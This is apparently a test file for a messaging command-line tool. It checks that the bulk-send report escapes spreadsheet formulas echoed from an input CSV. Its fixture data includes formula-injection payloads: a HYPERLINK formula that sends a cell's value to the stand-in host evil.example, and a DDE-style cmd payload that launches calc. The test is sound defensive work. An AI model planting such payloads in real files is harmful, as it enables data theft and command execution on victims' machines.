// --report never holds a formula a spreadsheet would run: cells echoed from the file get a '
// before them. Run in-process (test/support/in-process.ts) against a server on 127.0.0.1.
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { cleanEnv, tempDir, type RunResult } from '../../../support/cli.js';
import { runInProcess } from '../../../support/in-process.js';
import { useTestServer } from '../../../support/test-server.js';

const KEY = 'sk_test_hardening_12345678';
const server = useTestServer();

function env(): Record<string, string> {
  return cleanEnv({ MSGR_CONFIG_DIR: tempDir(), MSGR_API_KEY: KEY, MSGR_BASE_URL: server.url, MSGR_ACCOUNT_REFERENCE: 'ACME01' });
}

function file(content: string | Buffer, name = 'in.csv'): string {
  const path = join(tempDir('msgr-hardening-'), name);
  writeFileSync(path, content);
  return path;
}

function bulk(args: string[]): Promise<RunResult> {
  return runInProcess(['send-bulk', ...args], { env: env(), timeoutMs: 30_000 });
}

function assertClean(r: RunResult): void {
  assert.doesNotMatch(r.stderr, /\n\s+at .+:\d+:\d+/, 'stack trace without --verbose');
  assert.doesNotMatch(r.stderr, /internal error/);
}

describe('--report never holds a formula a spreadsheet would run', () => {
  test("cells from the file that start a formula get a ' before them; numbers, valid or as written, stay as they are", async () => {
    const csv = file(
      [
        'phone,name',
        '+447911123401,Ann',
        '"=HYPERLINK(""http://evil.example/?x=""&B3,""Click"")",Bob',
        '@SUM(1+1),Cy',
        '-1+1,Dee',
        '"+1+cmd|\' /C calc\'!A0",Eve',
        '+44 (0)7911 123456 7890,Fay',
        '',
      ].join('\n'),
    );
    const report = join(tempDir(), 'r.csv');
    const r = await bulk([csv, '--from', 'Acme', '--text', 'Hi {{name}}', '--skip-invalid', '--report', report, '--yes']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(server.requests.length, 1);
    const lines = readFileSync(report, 'utf8').split('\n');
    assert.equal(lines[0], 'line,number,outcome,status,message_id,error,request_fields');
    assert.match(lines[1] ?? '', /^2,\+447911123401,accepted,/);
    assert.match(lines[2] ?? '', /^3,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&B3,""Click""\)",invalid,,,/);
    assert.match(lines[3] ?? '', /^4,'@SUM\(1\+1\),invalid,/);
    assert.match(lines[4] ?? '', /^5,'-1\+1,invalid,/);
    assert.match(lines[5] ?? '', /^6,'\+1\+cmd\|' \/C calc'!A0,invalid,/);
    assert.match(lines[6] ?? '', /^7,\+44 \(0\)7911 123456 7890,invalid,/);
    // No cell of any line starts a formula (a quoted cell is looked at inside its quotes).
    for (const line of lines.slice(1, -1)) {
      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? []) {
        const text = cell.replace(/,$/, '').replace(/^"|"$/g, '');
        assert.doesNotMatch(text, /^[=@\t\r]/, line);
      }
    }
    assertClean(r);
  });
});

